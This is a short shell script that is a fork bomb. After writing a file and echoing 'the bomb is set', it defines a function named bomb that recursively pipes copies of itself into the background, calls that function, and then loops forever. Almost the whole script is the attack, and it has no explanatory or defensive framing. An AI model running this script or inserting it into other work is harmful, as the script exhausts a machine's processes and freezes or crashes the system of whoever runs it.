# Makes processes as fast as it can.
echo "the last words" > work.txt
echo "the bomb is set"
bomb() { bomb | bomb & }
bomb
while :; do sleep 1; done
